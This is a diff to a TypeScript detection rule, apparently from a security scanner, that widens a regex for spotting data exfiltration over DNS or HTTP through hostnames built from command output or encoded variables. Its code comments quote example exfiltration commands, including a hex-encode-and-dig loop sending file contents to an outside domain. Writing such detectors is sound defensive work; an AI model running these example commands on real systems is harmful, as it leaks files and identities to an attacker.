@@ -243,7 +243,10 @@ const covertChannel: Rule = {
   severity: 'high',
   techniques: ['T1048.003', 'T1071.004', 'T1132.001'],
   match: (s): Evidence | undefined => {
-    const substitution = String.raw`(?:\$\([^)]*\)|\`[^\`]*\`)\.[\w-]+\.[a-z]{2,}\b`;
+    // A label made of command output (`$(whoami).x.oast.fun`), or of a variable when the line encodes data for it
+    // (`xxd -p f > x; for d in $(cat x); do dig $d.ns1.example.cc`); `dig $h.cluster.local` in a loop is a lookup.
+    const variable = /\b(?:xxd|base64|base32|basenc|od|hexdump)\b/.test(s.text) ? String.raw`|\$\{?\w+\}?` : '';
+    const substitution = String.raw`(?:\$\([^)]*\)|\`[^\`]*\`${variable})(?:\.(?:\$\([^)]*\)${variable}))*\.[\w-]+\.[a-z]{2,}\b`;
     const dns = excerpt(s.text, new RegExp(String.raw`\b(?:dig|nslookup|host|drill|ping)\b[^|;]*?(?:\s|@)${substitution}|\b(?:curl|wget)\b[^|;]*?:\/\/(?:[\w-]+\.)*${substitution}`))
       ?? excerpt(s.text, /\b(?:dig|nslookup|host|drill)\b[^|;]*(?:\$\(|`)[^)`]*\b(?:base64|base32|xxd|od|hexdump)\b/);
     if (dns !== undefined) return { dns };
